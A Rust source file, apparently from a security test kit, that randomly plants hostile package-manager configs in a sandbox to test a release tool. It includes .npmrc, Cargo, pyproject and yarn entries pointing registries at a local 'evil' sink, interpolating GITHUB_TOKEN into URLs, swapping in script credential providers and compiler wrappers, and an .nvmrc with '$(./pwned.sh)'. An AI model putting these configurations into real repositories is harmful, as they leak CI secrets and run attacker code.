//! Configuration of package managers and other tools, as a pull request can bring it along.

use relplan_testkit::mutation::Dice;

use super::command_line;
use crate::{
    canary,
    place::{MARK, Place},
};

fn variable(dice: &mut Dice) -> &'static str {
    dice.one_of(canary::VARIABLES)
        .map_or("GITHUB_TOKEN", |(name, _)| name)
}

pub fn npmrc(place: &mut Place, dice: &mut Dice) -> String {
    let evil = format!("127.0.0.1:{}", place.sink.port());
    let own = format!("127.0.0.1:{}", place.registry.port());
    let name = variable(dice);
    let run = command_line(place, dice);
    let all = [
        format!("registry=http://{evil}/${{{name}}}/"),
        format!("registry=http://${{{name}}}@{evil}/"),
        format!("registry=http://{evil}/"),
        format!("registry=http://{evil}/?x=${{{name}}}"),
        format!("@quickstart:registry=http://{evil}/${{{name}}}/"),
        format!("//{evil}/:_authToken=${{{name}}}"),
        format!("//{evil}/:_auth=${{{name}}}"),
        format!("//{evil}/:username=me\n//{evil}/:_password=${{{name}}}"),
        format!("//{evil}/:tokenHelper={run}"),
        format!("_authToken=${{{name}}}"),
        format!("_auth=${{{name}}}"),
        format!("//{own}/:_authToken=${{{name}}}"),
        format!("proxy=http://{evil}/\nhttps-proxy=http://{evil}/\nnoproxy="),
        format!("{name}=${{{name}}}\n${{{name}}}=x"),
        format!("git={run}\nscript-shell={run}\nshell={run}\neditor={run}"),
        format!("node-options=--require ./{MARK}.js"),
        "prefix=./tools\nglobalconfig=../outside/secret\nuserconfig=../outside/secret".to_owned(),
        "cafile=../outside/secret\nstrict-ssl=false".to_owned(),
        format!("otp=${{{name}}}"),
    ];
    let lines: Vec<String> = (0..=dice.below(3))
        .filter_map(|_| dice.one_of(&all).cloned())
        .collect();
    let file = [
        "project/.npmrc",
        "project/js/.npmrc",
        "project/js/packages/greet/.npmrc",
    ][dice.below(3)];
    place.write(file, lines.join("\n"));
    format!("{file}: {lines:?}")
}

pub fn cargo(place: &mut Place, dice: &mut Dice) -> String {
    let evil = format!("http://127.0.0.1:{}/", place.sink.port());
    let script = format!("./tools/{MARK}.sh");
    let whole = place
        .project()
        .join(format!("tools/{MARK}.sh"))
        .display()
        .to_string();
    let all = [
        format!("[registries.own]\nindex = \"sparse+{evil}\"\n"),
        format!(
            "[registries.own]\ncredential-provider = [\"cargo:token-from-stdout\", \"{whole}\"]\n"
        ),
        format!("[registries.own]\ncredential-provider = \"{script}\"\ntoken = \"x\"\n"),
        format!(
            "[registry]\nglobal-credential-providers = [\"{script}\", \"cargo:token\"]\ndefault = \"own\"\n"
        ),
        format!("[registry]\ncredential-provider = [\"{whole}\"]\n"),
        format!("[credential-alias]\n\"cargo:token\" = [\"{whole}\"]\nmine = [\"{script}\"]\n"),
        format!(
            "[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+{evil}\"\n"
        ),
        format!(
            "[http]\nproxy = \"{evil}\"\ncheck-revoke = false\ncainfo = \"../outside/secret\"\n"
        ),
        format!(
            "[build]\nrustc = \"{script}\"\nrustc-wrapper = \"{script}\"\nrustdoc = \"{script}\"\n"
        ),
        format!("[alias]\nmetadata = \"run\"\npackage = [\"!{script}\"]\n"),
        "[env]\nPATH = { value = \"tools\", force = true }\nGITHUB_TOKEN = \"x\"\n".to_owned(),
        "[net]\ngit-fetch-with-cli = true\n".to_owned(),
        "include = [\"../../outside/secret\", \"/dev/zero\"]\n".to_owned(),
        "paths = [\"/\", \"../../outside\"]\n".to_owned(),
        format!("[target.'cfg(all())']\nrunner = \"{script}\"\nlinker = \"{script}\"\n"),
    ];
    let text: String = (0..=dice.below(3))
        .filter_map(|_| dice.one_of(&all).cloned())
        .collect();
    let file = [
        "project/.cargo/config.toml",
        "project/.cargo/config",
        "project/crates/.cargo/config.toml",
    ][dice.below(3)];
    place.write(file, &text);
    if dice.below(2) == 0 {
        place.write(
            "project/rust-toolchain.toml",
            "[toolchain]\npath = \"tools\"\n",
        );
        place.program("project/tools/bin/cargo");
        place.program("project/tools/bin/rustc");
    }
    if dice.below(2) == 0 {
        super::specs::target(place, dice, "kind=\"cargo\" registry=\"own\"", "crates/*");
    }
    format!("{file}: {text:?}")
}

pub fn python(place: &mut Place, dice: &mut Dice) -> String {
    let evil = format!("http://127.0.0.1:{}/", place.sink.port());
    let name = variable(dice);
    match dice.below(4) {
        0 => {
            place.write("project/.pypirc", format!("[distutils]\nindex-servers = own\n[own]\nrepository = {evil}\nusername = me\npassword = %({name})s\n"));
            ".pypirc in the tree".to_owned()
        }
        1 => {
            let tool = format!(
                "[project]\nname = \"quickstart-greet\"\nversion = \"0.1.0\"\n[build-system]\nrequires = []\nbuild-backend = \"{MARK}\"\nbackend-path = [\".\"]\n[tool.uv]\npublish-url = \"{evil}\"\nkeyring-provider = \"subprocess\"\n[[tool.uv.index]]\nname = \"own\"\nurl = \"{evil}\"\npublish-url = \"{evil}${{{name}}}\"\n"
            );
            place.write("project/py/pyproject.toml", tool);
            place.program(&format!("project/py/{MARK}.py"));
            "pyproject.toml with uv's indexes".to_owned()
        }
        2 => {
            for file in [
                "project/pip.conf",
                "project/py/pip.conf",
                "project/uv.toml",
                "project/py/uv.toml",
                "project/.netrc",
                "project/setup.py",
                "project/py/setup.py",
                "project/sitecustomize.py",
                "project/py/sitecustomize.py",
                "project/keyring.py",
                "project/pip/__init__.py",
            ] {
                place.program(file);
            }
            "Python files that tools load from the folder that they run in".to_owned()
        }
        _ => {
            super::specs::target(
                place,
                dice,
                &format!("kind=\"pypi\" repository=\"own\" read-url=\"{evil}simple/\""),
                "quickstart-greet",
            );
            "a read-url elsewhere".to_owned()
        }
    }
}

pub fn other_tools(place: &mut Place, _: &mut Dice) -> String {
    let script = format!("./tools/{MARK}.sh");
    place.write(
        "project/js/.yarnrc.yml",
        format!("yarnPath: {script}\nplugins: [{script}]\nnpmAuthToken: ${{GITHUB_TOKEN}}\n"),
    );
    place.write("project/js/.yarnrc", format!("yarn-path \"{script}\"\n"));
    place.write("project/.tool-versions", "nodejs path:./tools\n");
    place.write("project/.nvmrc", "$(./pwned.sh)\n");
    place.write(
        "project/.env",
        "PATH=./tools\nRELPLAN_POLICY=/dev/null\nRELPLAN_STATE=../outside/folder\n",
    );
    for file in [
        "project/js/.pnpmfile.cjs",
        "project/js/pnpmfile.js",
        "project/.envrc",
        "project/Makefile",
        "project/crates/build.rs",
        "project/crates/greet-core/build.rs",
    ] {
        place.program(file);
    }
    "files of other tools".to_owned()
}

pub fn programs_on_the_path(place: &mut Place, dice: &mut Dice) -> String {
    const FOLDERS: &[&str] = &[
        "",
        ".",
        "./node_modules/.bin",
        "js/node_modules/.bin",
        "tools",
    ];
    let folder = dice.one_of(FOLDERS).copied().unwrap_or_default();
    let inside = if folder.is_empty() { "." } else { folder };
    for program in [
        "git",
        "npm",
        "node",
        "pnpm",
        "yarn",
        "cargo",
        "rustc",
        "python",
        "python3",
        "uv",
        "pip",
        "twine",
        "ssh",
        "ssh-keygen",
        "keyring",
        "docker",
        "cargo-credential-1password",
        "git-remote-http",
        "sh",
        "env",
    ] {
        place.program(&format!("project/{inside}/{program}"));
    }
    let entry = match dice.below(3) {
        0 => place.project().join(inside).display().to_string(),
        1 => {
            // Outside of the tree by its name, inside by where it leads.
            place.link("home/bin", place.project().join(inside));
            place.root().join("home/bin").display().to_string()
        }
        _ => folder.to_owned(),
    };
    let path = place.variables.get("PATH").cloned().unwrap_or_default();
    place.set("PATH", &format!("{entry}:{path}"));
    format!(
        "programs in {inside}, on the path as {}",
        if entry.starts_with('/') {
            "an absolute entry"
        } else {
            folder
        }
    )
}
